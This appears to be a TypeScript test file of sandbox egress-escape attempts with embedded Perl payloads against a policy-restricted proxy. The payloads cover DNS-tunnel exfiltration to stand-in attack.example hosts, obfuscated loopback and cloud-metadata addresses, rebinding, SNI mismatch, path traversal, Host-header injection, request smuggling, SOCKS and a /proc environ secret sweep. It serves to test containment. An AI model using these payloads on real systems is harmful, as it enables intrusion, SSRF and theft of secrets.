/**
 * Attempts to get out by the egress proxy of a sandbox whose policy opens one host. What the
 * hosts and the name server behind it hear is in `way-out.ts`.
 */
import type { Attempt } from "../attempt.ts";
import { networkAttempts } from "./network.ts";

/**
 * `ask(bytes, more…)` says the bytes to the proxy, waits for an answer before each of the
 * others, and answers all that came. `hello(payload, names…)` is the first message of TLS. It
 * all begins with what the policy allows: without a way out, the attempt would prove nothing.
 */
const proxy = String.raw`
use Socket;
my ($proxy_host, $proxy_port) = ($ENV{HTTP_PROXY} // '') =~ m{//([\d.]+):(\d+)};
sub enter {
  die "there is no proxy\n" unless $proxy_port;
  socket(my $s, PF_INET, SOCK_STREAM, 0) or die "no socket: $!\n";
  within(5, sub { connect $s, pack_sockaddr_in($proxy_port, inet_aton($proxy_host)) }) or die "the proxy cannot be reached\n";
  return $s;
}
sub hear {
  my ($s, $want) = @_;
  my $answer = '';
  within(4, sub { while (sysread $s, my $part, 4096) { $answer .= $part; last if $answer =~ $want } 1 });
  return $answer;
}
sub ask {
  my ($bytes, @more) = @_;
  my $s = enter();
  syswrite $s, $bytes;
  my $answer = hear($s, qr/\r\n\r\n/);
  for my $next (@more) { syswrite $s, $next; $answer .= hear($s, qr/./s) }
  return $answer;
}
sub get { my ($authority, $path, $method) = @_; $method //= 'GET'; return ask("$method http://$authority$path HTTP/1.1\r\nHost: $authority\r\nConnection: close\r\n\r\n") }
sub tunnel { my ($authority, @more) = @_; return ask("CONNECT $authority HTTP/1.1\r\nHost: $authority\r\n\r\n", @more) }
sub hello {
  my ($payload, @names) = @_;
  my $list = join '', map { pack('Cn', 0, length) . $_ } @names;
  my $extensions = @names ? pack('nnn', 0, 2 + length $list, length $list) . $list : '';
  my $body = pack('n', 0x303) . ('r' x 32) . chr(length $payload) . $payload . pack('nnCC', 2, 0x1301, 1, 0) . pack('n', length $extensions) . $extensions;
  my $message = "\1" . substr(pack('N', length $body), 1) . $body;
  return pack('Cnn', 22, 0x301, length $message) . $message;
}
my ($port, $tls, $other) = @ENV{qw(WAY_PORT WAY_TLS_PORT WAY_OTHER_PORT)};
my $open = 'open.attack.example';
die "the open host is not reached\n" unless get("$open:$port", '/ok/control') =~ / 200 .*$ENV{WAY_ANSWER}/s;
`;

function byProxy(name: string, what: string, perl: string): Attempt {
  return { name, kind: "egress", what, perl: proxy + perl, hasWay: true, timeoutMs: 90_000 };
}

/** Tried once more where a policy opens one host: it must open nothing else. */
const again = new Set([
  ...["interfaces", "host-loopback", "host-addresses", "metadata-address", "public-addresses"],
  ...["ipv6", "dns-udp", "names", "icmp", "raw-sockets", "proxy-variables"],
]);

/** None of them may reach a host or a request beyond the policy. */
export const proxyAttempts: readonly Attempt[] = [
  ...networkAttempts
    .filter(({ name }) => again.has(name))
    .map((attempt) => ({
      ...attempt,
      name: `policy-${attempt.name}`,
      what: `${attempt.what}, where a policy opens one host`,
      hasWay: true,
    })),
  byProxy(
    "proxy-other-host",
    "a host that the policy does not name is reached",
    String.raw`
for my $host ("$nonce.attack.example", "$nonce.open.attack.example", "open.attack.example.$nonce.attack.example") {
  get("$host:$port", "/ok/$nonce"); tunnel("$host:$tls", hello($nonce, $host)); tunnel("$host:443", hello($nonce, $host));
}`,
  ),
  byProxy(
    "proxy-other-port",
    "another port of the open host is reached",
    String.raw`get("$open:$other", "/ok/$nonce"); tunnel("$open:$other", hello($nonce, $open), $nonce); tunnel("$open:$_", $nonce) for 22, 25;`,
  ),
  byProxy(
    "proxy-dns-tunnel",
    "names of hosts carry a message to a name server",
    String.raw`
for my $part (1 .. 8) { tunnel("$part-$nonce.tunnel.attack.example:443"); get("$part.$nonce.attack.example", '/') }
tunnel("$nonce.example:443"); get("x@" . "$nonce.attack.example:$port", '/ok/');`,
  ),
  byProxy(
    "proxy-connect-address",
    "an address is reached by CONNECT or a request, in any way of writing it",
    String.raw`
for my $host ('127.0.0.1', '127.1', '2130706433', '0x7f000001', '0177.0.0.1', '127.000.000.001', '0', '0.0.0.0', 'localhost', '[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '127.0.0.1.', "127.0.0.1\%00.$open") {
  my $answer = tunnel("$host:$tls", hello($nonce, $open), $nonce);
  got("CONNECT to $host was let through") if $answer =~ m{^HTTP/1\.\d 200};
  get("$host:$port", "/ok/$nonce");
}
for my $host ('169.254.169.254', '[fd00:ec2::254]', '10.0.2.2') {
  got("CONNECT to $host was tried") if tunnel("$host:80", $nonce) !~ m{^HTTP/1\.\d 40[03]};
}`,
  ),
  byProxy(
    "proxy-private-name",
    "a host that the policy names leads to the loopback of the host",
    String.raw`
get("private.attack.example:$port", "/ok/$nonce"); get("mapped.attack.example:$port", "/ok/$nonce");
tunnel("private.attack.example:$tls", hello($nonce, 'private.attack.example'), $nonce);`,
  ),
  byProxy(
    "proxy-metadata-name",
    "a host that the policy names leads to a cloud's metadata service",
    String.raw`
for my $host ('metadata.attack.example', 'metadata6.attack.example') {
  my $answer = get("$host:80", '/latest/meta-data/');
  got("$host was tried: " . substr $answer, 0, 40) if $answer !~ m{^HTTP/1\.1 403};
}`,
  ),
  byProxy(
    "proxy-mixed-name",
    "one good address of a host opens a bad one beside it",
    String.raw`
for (1 .. 6) { get("mixed.attack.example:$port", "/ok/$nonce"); tunnel("mixed.attack.example:$tls", hello($nonce, 'mixed.attack.example'), $nonce) if $_ < 3 }`,
  ),
  byProxy(
    "proxy-rebinding",
    "a host has another address once it was judged",
    String.raw`
my $reached = 0;
for (1 .. 8) { $reached++ if get("rebind.attack.example:$port", "/ok/$nonce") =~ /$ENV{WAY_ANSWER}/ }
print "reached $reached times\n";`,
  ),
  byProxy(
    "proxy-redirect",
    "the open host's redirect leads to an address of the host",
    String.raw`
my $answer = get("$open:$port", "/ok/redirect/$nonce");
my ($to, $path) = $answer =~ m{^location: http://([^/\s]+)(\S*)}mi or die "there was no redirect: $answer\n";
get($to, $path);`,
  ),
  byProxy(
    "proxy-sni-mismatch",
    "a tunnel to the open host carries TLS for another one",
    String.raw`
die "no tunnel to the open host\n" unless tunnel("$open:$tls", hello('', $open)) =~ / 200 .*$ENV{WAY_ANSWER}/s;
my $name = "$nonce.attack.example";
tunnel("$open:$tls", hello('', $name)); tunnel("$open:$tls", hello($nonce)); tunnel("$open:$tls", hello('', $name, $open)); tunnel("$open:$tls", hello($nonce, $open, 'other.attack.example'));
tunnel("$open:$tls", hello($nonce, '127.0.0.1')); tunnel("$open:$tls", hello($nonce, "$open."));
my $whole = substr hello('', $name), 5;
tunnel("$open:$tls", pack('Cnn', 22, 0x301, 20) . substr($whole, 0, 20), pack('Cnn', 22, 0x301, length($whole) - 20) . substr($whole, 20));
ask("CONNECT $open:$tls HTTP/1.1\r\nHost: $name:$tls\r\n\r\n", hello($nonce, $open));`,
  ),
  byProxy(
    "proxy-no-tls",
    "a tunnel to the open host carries something else than TLS",
    String.raw`
tunnel("$open:$tls", "GET /$nonce HTTP/1.1\r\n\r\n"); tunnel("$open:$tls", "SSH-2.0-$nonce\r\n"); tunnel("$open:$tls", "\x80\x2e\1\0\2$nonce");
ask("CONNECT $open:$tls HTTP/1.1\r\nHost: $open:$tls\r\n\r\nGET /$nonce HTTP/1.1\r\n\r\n");`,
  ),
  byProxy(
    "proxy-method",
    "a method that the policy does not have reaches the open host",
    String.raw`get("$open:$port", "/ok/$nonce", $_) for qw(POST PUT DELETE PATCH OPTIONS HEAD TRACE PROPFIND get);`,
  ),
  byProxy(
    "proxy-path",
    "a path that the policy does not have reaches the open host",
    String.raw`get("$open:$port", $_) for "/shut/$nonce", "/ok/../shut/$nonce", "/ok/%2e%2e/shut/$nonce", "/ok/..;/shut/$nonce", "/ok//../shut/$nonce", "//ok/$nonce", "/ok/..%2fshut%2f$nonce", "/ok/%252e%252e/$nonce", "/OK/$nonce", "/ok/\\..\\$nonce", "/ok/./$nonce";`,
  ),
  byProxy(
    "proxy-host-header",
    "the open host is asked for another one's site",
    String.raw`
for my $host ("$nonce.attack.example", "$open:$port\r\nHost: $nonce.attack.example", "$nonce\@$open:$port") { ask("GET http://$open:$port/ok/control HTTP/1.1\r\nHost: $host\r\nConnection: close\r\n\r\n") }
ask("GET http://$nonce\@$open:$port/ok/control HTTP/1.1\r\nHost: $nonce\@$open:$port\r\n\r\n");`,
  ),
  byProxy(
    "proxy-smuggling",
    "a request hidden in another one reaches the open host",
    String.raw`
my $hidden = "GET /shut/$nonce HTTP/1.1\r\nHost: $open:$port\r\n\r\n";
for my $framing ("Content-Length: 5\r\nTransfer-Encoding: chunked", "Content-Length: 5, 0", "Content-Length: +5", "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "X: a\r\n Transfer-Encoding: chunked", "X: a\nTransfer-Encoding: chunked", "Content-Length: 0\r\nContent-Length: 5") {
  ask("GET http://$open:$port/ok/control HTTP/1.1\r\nHost: $open:$port\r\n$framing\r\n\r\n0\r\n\r\n$hidden");
}
my $line = "GET http://$open:$port/ok/control HTTP/1.1\r\nHost: $open:$port\r\n\r\n";
ask("$line$hidden"); ask("$line" . $hidden =~ s{GET }{GET http://$open:$port}r);`,
  ),
  byProxy(
    "proxy-socks",
    "the proxy speaks a protocol that knows no policy",
    String.raw`
my $address = pack('nC4', $port, 127, 0, 0, 1);
ask("\4\1" . $address . "x\0", "GET /$nonce HTTP/1.0\r\n\r\n");
for my $to (pack('C4', 1, 127, 0, 0) . "\1" . pack('n', $port), "\3" . chr(length $open) . $open . pack('n', $other)) {
  my $s = enter();
  syswrite $s, "\5\1\0"; hear($s, qr/../s);
  syswrite $s, "\5\1\0$to"; hear($s, qr/.{4}/s);
  syswrite $s, "GET /$nonce HTTP/1.0\r\n\r\n"; hear($s, qr/\r\n\r\n/);
}`,
  ),
  byProxy(
    "proxy-secret",
    "a secret that the proxy puts into requests is found in the sandbox",
    String.raw`
my @files = ($ENV{WAY_SECRETS}, glob('/proc/[0-9]*/environ'));
my @folders = ('/opt/devmesh', '/run', '/tmp');
while (defined(my $folder = shift @folders)) {
  opendir(my $d, $folder) or next;
  for my $name (grep { !/^\.\.?$/ } readdir $d) { my $path = "$folder/$name"; if (-d $path && !-l $path) { push @folders, $path } elsif (-f $path) { push @files, $path } }
}
for my $path (@files) { print map { "$_\n" } slurp($path) =~ /(canary-\w+)/g }
print map { "$_\n" } values %ENV;`,
  ),
];
